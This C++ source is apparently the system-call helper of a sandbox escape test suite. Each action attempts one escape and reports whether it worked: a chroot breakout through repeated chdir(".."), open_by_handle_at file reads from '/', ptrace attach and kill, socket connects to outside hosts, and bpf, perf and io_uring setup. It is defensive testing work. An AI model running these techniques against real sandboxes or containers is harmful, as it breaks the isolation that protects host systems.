// escape_attack: the system-call half of the escape tests (tests/escape). The shell text of a
// case calls it for what coreutils and util-linux cannot do. Each action tries one thing and
// prints one line: "ok[ detail]" or the errno name of the failure; exit 0 on "ok", 1 on failure,
// 2 on bad usage. The verdict is never taken from this line alone: the harness judges every
// attack by its effect, seen from outside the sandbox.
//
//   victim                       (host side) allow any tracer, ignore SIGTERM, sleep forever
//   tcp HOST PORT TOKEN          IPv4 TCP connect and send TOKEN
//   udp HOST PORT TOKEN          IPv4 UDP datagram TOKEN
//   unix PATH TOKEN              AF_UNIX stream connect to a pathname socket, send TOKEN
//   abstract NAME TOKEN          the same to an abstract socket
//   ptrace-kill PID              PTRACE_ATTACH, then PTRACE_KILL
//   keyctl DESCRIPTION           add a "user" key to the user keyring
//   bpf                          BPF_MAP_CREATE of a small array map
//   perf                         perf_event_open of a software clock on itself
//   io-uring                     io_uring_setup
//   chroot-breakout FILE         classic chroot escape (jail, chdir .. x64, chroot .), write FILE
//   by-handle HANDLE_TYPE HEX    open_by_handle_at on "/" with that handle; print the content
//   whoami FILE                  write "euid=N" to FILE (run through a setuid copy)
//   late-listener PATH MS        (host side) after MS ms, listen on the pathname socket PATH;
//                                create PATH.accepted when a connection arrives
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

namespace {

int Report(bool ok, const std::string& detail = "") {
  if (ok) {
    std::printf("ok%s%s\n", detail.empty() ? "" : " ", detail.c_str());
    return 0;
  }
  const char* name = strerrorname_np(errno);
  std::printf("%s\n", name != nullptr ? name : "EUNKNOWN");
  return 1;
}

int Victim() {
  ::prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
  ::signal(SIGTERM, SIG_IGN);
  for (;;) ::pause();
}

bool Inet(const char* host, const char* port, sockaddr_in* addr) {
  *addr = {};
  addr->sin_family = AF_INET;
  addr->sin_port = htons(static_cast<uint16_t>(std::atoi(port)));
  if (::inet_pton(AF_INET, host, &addr->sin_addr) == 1) return true;
  errno = EINVAL;
  return false;
}

int Tcp(const char* host, const char* port, const char* token) {
  sockaddr_in addr;
  if (!Inet(host, port, &addr)) return Report(false);
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return Report(false);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) return Report(false);
  return Report(::write(fd, token, std::strlen(token)) > 0);
}

int Udp(const char* host, const char* port, const char* token) {
  sockaddr_in addr;
  if (!Inet(host, port, &addr)) return Report(false);
  const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return Report(false);
  return Report(::sendto(fd, token, std::strlen(token), 0, reinterpret_cast<sockaddr*>(&addr),
                         sizeof addr) > 0);
}

int Unix(const char* name, bool abstract, const char* token) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  const std::size_t len = std::strlen(name);
  if (len + 2 > sizeof addr.sun_path) {
    errno = ENAMETOOLONG;
    return Report(false);
  }
  std::memcpy(addr.sun_path + (abstract ? 1 : 0), name, len);
  const auto size =
      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + len + (abstract ? 1 : 0));
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return Report(false);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), size) != 0) return Report(false);
  return Report(::write(fd, token, std::strlen(token)) > 0);
}

int PtraceKill(const char* pid_text) {
  const pid_t pid = static_cast<pid_t>(std::atoi(pid_text));
  if (::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) != 0) return Report(false);
  int status = 0;
  ::waitpid(pid, &status, __WALL);
  return Report(::ptrace(PTRACE_KILL, pid, nullptr, nullptr) == 0);
}

int Keyctl(const char* description) {
  constexpr int kUserKeyring = -4;  // KEY_SPEC_USER_KEYRING
  const long id = ::syscall(SYS_add_key, "user", description, "cordon", 6, kUserKeyring);
  return Report(id >= 0, std::to_string(id));
}

int Bpf() {
  union bpf_attr attr {};
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  return Report(::syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr) >= 0);
}

int Perf() {
  perf_event_attr attr{};
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  attr.exclude_kernel = 1;
  attr.exclude_hv = 1;
  return Report(::syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0) >= 0);
}

int IoUring() {
  // struct io_uring_params is 120 bytes of zeroes for a default ring.
  unsigned char params[120] = {};
  return Report(::syscall(SYS_io_uring_setup, 4, params) >= 0);
}

int ChrootBreakout(const char* file) {
  const std::string jail = "escape-jail-" + std::to_string(::getpid());
  ::mkdir(jail.c_str(), 0755);
  if (::chroot(jail.c_str()) != 0) return Report(false);
  // The working directory stays outside the new root; ".." from there is never clamped.
  for (int i = 0; i < 64; ++i) {
    if (::chdir("..") != 0) return Report(false);
  }
  if (::chroot(".") != 0) return Report(false);
  const int fd = ::open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return Report(false);
  return Report(::write(fd, "escaped\n", 8) == 8);
}

int ByHandle(const char* type_text, std::string_view hex) {
  std::vector<unsigned char> bytes;
  for (std::size_t i = 0; i + 1 < hex.size(); i += 2) {
    bytes.push_back(
        static_cast<unsigned char>(std::stoi(std::string(hex.substr(i, 2)), nullptr, 16)));
  }
  std::vector<unsigned char> storage(sizeof(file_handle) + bytes.size());
  auto* handle = reinterpret_cast<file_handle*>(storage.data());
  handle->handle_bytes = static_cast<unsigned>(bytes.size());
  handle->handle_type = std::atoi(type_text);
  std::memcpy(handle->f_handle, bytes.data(), bytes.size());
  const int mount_fd = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = ::open_by_handle_at(mount_fd, handle, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return Report(false);
  char buffer[4096];
  const ssize_t n = ::read(fd, buffer, sizeof buffer - 1);
  if (n < 0) return Report(false);
  buffer[n] = '\0';
  return Report(true, buffer);
}

int WhoAmI(const char* file) {
  const int fd = ::open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return Report(false);
  const std::string line = "euid=" + std::to_string(::geteuid()) + "\n";
  return Report(::write(fd, line.data(), line.size()) == static_cast<ssize_t>(line.size()));
}

int LateListener(const char* path, const char* delay_ms) {
  ::usleep(static_cast<useconds_t>(std::atoi(delay_ms)) * 1000);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
      ::listen(fd, 4) != 0) {
    return Report(false);
  }
  ::chmod(path, 0777);
  const int conn = ::accept(fd, nullptr, nullptr);
  if (conn < 0) return Report(false);
  const std::string accepted = std::string(path) + ".accepted";
  const int marker = ::open(accepted.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  return Report(marker >= 0);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const std::string_view action = argv[1];
  const auto args = [&](int n) { return argc == n + 2; };
  if (action == "victim" && args(0)) return Victim();
  if (action == "tcp" && args(3)) return Tcp(argv[2], argv[3], argv[4]);
  if (action == "udp" && args(3)) return Udp(argv[2], argv[3], argv[4]);
  if (action == "unix" && args(2)) return Unix(argv[2], false, argv[3]);
  if (action == "abstract" && args(2)) return Unix(argv[2], true, argv[3]);
  if (action == "ptrace-kill" && args(1)) return PtraceKill(argv[2]);
  if (action == "keyctl" && args(1)) return Keyctl(argv[2]);
  if (action == "bpf" && args(0)) return Bpf();
  if (action == "perf" && args(0)) return Perf();
  if (action == "io-uring" && args(0)) return IoUring();
  if (action == "chroot-breakout" && args(1)) return ChrootBreakout(argv[2]);
  if (action == "by-handle" && args(2)) return ByHandle(argv[2], argv[3]);
  if (action == "whoami" && args(1)) return WhoAmI(argv[2]);
  if (action == "late-listener" && args(2)) return LateListener(argv[2], argv[3]);
  std::fprintf(stderr, "escape_attack: bad usage (see the comment at the top of the source)\n");
  return 2;
}
